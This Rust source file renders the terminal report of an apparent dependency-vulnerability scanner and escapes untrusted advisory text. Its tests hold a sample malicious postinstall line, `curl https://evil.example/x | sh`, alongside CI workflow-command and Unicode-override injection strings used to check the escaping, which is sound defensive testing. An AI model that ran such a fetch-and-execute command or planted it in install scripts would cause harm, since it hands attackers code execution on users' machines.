//! The terminal report: grouped by bundle, worst findings first, with the dependency paths and
//! the fix. Colour only when asked (a TTY without `NO_COLOR`); package names, paths and advisory
//! text go through [`super::escape::terminal`] (control and invisible characters shown as escapes,
//! no workflow command at a line start, long text capped).

use std::io::{self, Write};

use super::RenderOptions;
use super::escape;
use crate::finding::{FindingKind, Level, RiskFinding, ScanResult, Status};

fn paint(options: RenderOptions, code: &str, text: &str) -> String {
    if options.color { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
}

fn level_color(level: Level) -> &'static str {
    match level {
        Level::Critical => "1;31",
        Level::High => "31",
        Level::Medium => "33",
        Level::Low => "36",
    }
}

/// ` [ignored: reason until date]`, ` [dev-only]`..., nothing for a gating finding.
fn status_note(status: &Status) -> String {
    match status {
        Status::Gating => String::new(),
        Status::Ignored { reason, until, .. } => {
            format!(
                " [ignored: {}{}]",
                escape::terminal(reason),
                until.as_ref().map(|u| format!(" until {}", escape::terminal(u))).unwrap_or_default()
            )
        }
        other => format!(" [{}]", other.as_str()),
    }
}

/// The fix plan, one block per unit with gating findings (nothing when nothing gates).
pub fn render_fix_plan(result: &ScanResult, out: &mut dyn Write) -> io::Result<()> {
    for b in result.bundles.iter().filter(|b| !b.fix_plan.is_empty()) {
        writeln!(out, "fix plan for {} ({}):", escape::terminal(&b.name), escape::terminal(&b.path))?;
        for line in b.fix_plan.lines() {
            writeln!(out, "  {}", escape::terminal(&line))?;
        }
        writeln!(out)?;
    }
    Ok(())
}

pub fn render(result: &ScanResult, options: RenderOptions, out: &mut dyn Write) -> io::Result<()> {
    for bundle in &result.bundles {
        let packages = bundle.graph.len();
        let runtime = bundle.runtime.as_deref().map(|r| format!(", {}", escape::terminal(r))).unwrap_or_default();
        writeln!(
            out,
            "{} {}{runtime}: {} ({}, {packages} packages)",
            bundle.kind,
            paint(options, "1", &escape::terminal(&bundle.name)),
            escape::terminal(&bundle.path),
            bundle.format
        )?;
        for h in bundle.risks_of(FindingKind::Hygiene) {
            let what = h
                .package
                .as_ref()
                .map(|p| format!("{} ", escape::terminal(&format!("{}@{}", p.name, p.version))))
                .unwrap_or_default();
            writeln!(out, "  note     [{}] {what}{}", h.code.name(), escape::terminal(&h.message))?;
        }
        for r in bundle.risks.iter().filter(|r| r.code.kind() != FindingKind::Hygiene) {
            let level = paint(options, level_color(r.level), &format!("{:<8}", r.level.as_str()));
            let what = r
                .package
                .as_ref()
                .map(|p| format!("{}@{} ", escape::terminal(p.name.as_str()), escape::terminal(&p.version)))
                .unwrap_or_default();
            writeln!(out, "  {level} [{}] {what}{}{}", r.code, escape::terminal(&r.message), status_note(&r.status))?;
        }
        if let Some(reason) = &bundle.coverage {
            writeln!(out, "  not read: {}", escape::terminal(reason))?;
        } else if bundle.findings.is_empty() {
            writeln!(out, "  no known vulnerabilities")?;
        }
        for f in &bundle.findings {
            let p = &f.package;
            let level = paint(options, level_color(f.severity), &format!("{:<8}", f.severity.as_str()));
            let status = status_note(&f.status);
            let reach = if f.reachable == Some(false) { " (unreachable: no import leads to it)" } else { "" };
            writeln!(
                out,
                "  {level} {} {}@{}{reach}{status}",
                escape::terminal(&f.advisory.id),
                escape::terminal(p.name.as_str()),
                escape::terminal(&p.version)
            )?;
            if !f.advisory.summary.is_empty() {
                writeln!(out, "           {}", escape::terminal(&f.advisory.summary))?;
            }
            for path in f.paths.iter().take(3) {
                writeln!(out, "           path: {}", escape::terminal(&path.join(" > ")))?;
            }
            if f.paths.len() > 3 {
                writeln!(out, "           ... and {} more paths", f.paths.len() - 3)?;
            }
            let fix = if f.advisory.fixed.is_empty() {
                "no fixed version known".to_owned()
            } else {
                format!("upgrade to {}", f.advisory.fixed.join(" or "))
            };
            writeln!(out, "           fix: {}", escape::terminal(&fix))?;
        }
        writeln!(out)?;
    }
    render_fix_plan(result, out)?;
    footer(result, options, out)
}

/// Errors, warnings, what could not be read or evaluated, and the verdict line.
fn footer(result: &ScanResult, options: RenderOptions, out: &mut dyn Write) -> io::Result<()> {
    for e in &result.errors {
        writeln!(out, "error: {}", escape::terminal(&e.to_string()))?;
    }
    for w in &result.warnings {
        writeln!(out, "warning: {}", escape::terminal(&w.to_string()))?;
    }
    let not_read = result.bundles.iter().filter(|b| b.coverage.is_some()).count();
    if not_read > 0 {
        writeln!(
            out,
            "coverage: {not_read} of {} functions and layers could not be read (see above)",
            result.bundles.len()
        )?;
    }
    if !result.not_evaluated.is_empty() {
        writeln!(
            out,
            "not evaluated: {} packages could not be checked against the advisories (see the JSON report's not_evaluated)",
            result.not_evaluated.len()
        )?;
    }
    for c in &result.coverage {
        let why = c.reason.as_deref().map(|r| format!(" ({})", escape::terminal(r))).unwrap_or_default();
        writeln!(out, "coverage: {} evaluated for {} of {} packages{why}", c.code, c.evaluated, c.total)?;
    }
    let risks: Vec<&RiskFinding> =
        result.risks().map(|(_, r)| r).filter(|r| r.code.kind() != FindingKind::Hygiene).collect();
    let gating = result.findings().filter(|(_, f)| f.status == Status::Gating).count()
        + risks.iter().filter(|r| r.status == Status::Gating).count();
    let total = result.findings().count();
    let total = if risks.is_empty() { total.to_string() } else { format!("{total} findings and {}", risks.len()) };
    let what = if risks.is_empty() { "findings" } else { "risk findings" };
    let verdict = match result.verdict {
        crate::finding::Verdict::Pass => paint(options, "32", "PASS"),
        crate::finding::Verdict::Fail => paint(options, "1;31", "FAIL"),
        crate::finding::Verdict::Incomplete => paint(options, "1;33", "INCOMPLETE"),
    };
    writeln!(
        out,
        "{verdict}: {total} {what} in {} bundles, {gating} at or above {} gate the deploy",
        result.bundles.len(),
        result.fail_on.as_str()
    )
}

#[cfg(test)]
mod tests {
    use super::super::sarif::sample;
    use super::*;

    fn render_string(result: &ScanResult) -> String {
        let mut out = Vec::new();
        render(result, RenderOptions::default(), &mut out).expect("render");
        String::from_utf8(out).expect("utf-8")
    }

    #[test]
    fn risk_findings_coverage_and_verdict() {
        let text = render_string(&sample::with_risks());
        assert!(text.contains(
            "  high     [takeover/install-script-added] express@4.17.1 postinstall `curl https://evil.example/x | sh`\\n::error::pwned \\u{202e}<script>\n"
        ), "{text}");
        assert!(text.contains("  low      [unused/declared] jest@29.0.0 unused/declared on jest [info]\n"), "{text}");
        assert!(
            text.contains("  medium   [takeover/too-fresh] qs@6.7.0 takeover/too-fresh on qs [ignored: known]\n"),
            "{text}"
        );
        assert!(text.contains("  note     [dev-shipped] jest@29.0.0 hygiene/dev-shipped on jest\n"), "{text}");
        assert!(text.contains("not evaluated: 1 packages could not be checked"), "{text}");
        assert!(text.contains(
            "coverage: takeover/new-publisher evaluated for 812 of 3181 packages (publisher stripped by the registry mirror)\n"
        ));
        assert!(
            text.trim_end().ends_with(
                "INCOMPLETE: 7 findings and 5 risk findings in 4 bundles, 3 at or above high gate the deploy"
            ),
            "{text}"
        );
    }

    #[test]
    fn hostile_text_stays_on_its_line() {
        let mut result = sample::result();
        result.bundles[0].findings[1].advisory.summary = format!("::error::x {}", "A".repeat(200_000));
        let text = render_string(&result);
        assert!(text.lines().all(|l| l.chars().count() < 1_100), "long text is capped");
        for line in text.lines() {
            let line = line.trim_start();
            assert!(!line.starts_with("::") && !line.starts_with("##["), "{line}");
            assert!(!line.contains('\u{1b}'));
        }
        assert!(text.contains("           \\u{3a}:error::x AAAA"), "{text}");
    }
}
